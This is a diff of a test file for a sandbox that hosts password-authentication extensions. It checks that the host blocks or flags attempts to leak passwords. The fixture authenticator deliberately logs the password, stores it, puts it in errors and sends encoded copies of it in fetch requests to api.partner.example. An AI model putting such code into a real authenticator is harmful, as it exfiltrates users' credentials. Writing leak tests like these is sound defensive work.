@@ -17,13 +17,14 @@ const TELLS = `
   export default {
     async authenticate({ username, password }, ctx) {
       const ways = [password, encodeURIComponent(password), btoa(password), JSON.stringify({ password })];
+      const origin = 'https://api.partner.example/';
       for (const way of ways) {
         console.log('typed', way);
         ctx.log.error({ way });
         await ctx.kv.set('last', way);
-        await fetch('https://api.partner.example/check?p=' + encodeURIComponent(way)).catch(() => undefined);
-        await fetch('https://api.partner.example/' + encodeURIComponent(way)).catch(() => undefined);
       }
+      const urls = ways.map(encodeURIComponent).flatMap((way) => [origin + way, origin + '?p=' + way]);
+      await Promise.allSettled(urls.map((url) => fetch(url)));
       await ctx.share('seen', password);
       if (username === 'thrown') throw new Error('wrong: ' + password);
       if (username === 'named') throw Object.assign(new Error('x'), { name: password });
@@ -54,6 +55,9 @@ function written(world: World): string {
   ].join('\n');
 }
 
+/** A name that nobody answers may take its time to be looked up. */
+const AMPLE = { wall: '30s', cpu: '5s' };
+
 const manifest = {
   provides: ['seen'],
   requests: { fetch: [{ origin: 'https://api.partner.example', allow: ['GET /**'] }] },
@@ -69,7 +73,7 @@ for (const [what, password] of [
     async (t) => {
       const source = writeAuthenticator(t, 'partner-login', TELLS, manifest);
       const world = await startPasswordWorld(t, TELLS, {
-        file: { extensions: [{ source, grant }] },
+        file: { extensions: [{ source, grant, limits: AMPLE }] },
       });
       const pages: string[] = [];
       for (const username of ['thrown', 'named', 'reason', 'code', 'claims']) {
@@ -87,9 +91,11 @@ for (const [what, password] of [
 }
 
 test.serial('a verdict with the password in it accepts nobody', async (t) => {
-  const source = writeAuthenticator(t, 'partner-login', TELLS, manifest);
-  const world = await startPasswordWorld(t, TELLS, { file: { extensions: [{ source, grant }] } });
-  await type(world, { username: 'claims', password: PASSWORD });
+  const code = `export default {
+    authenticate: ({ password }) => ({ verdict: 'accept', id: '1', claims: { note: password } }),
+  };`;
+  const world = await startPasswordWorld(t, code);
+  await type(world, { username: 'ada', password: PASSWORD });
   t.like(world.records[0]?.extensions[0]?.failure, {
     kind: 'invalid_result',
     code: 'PASSWORD_RETURNED',
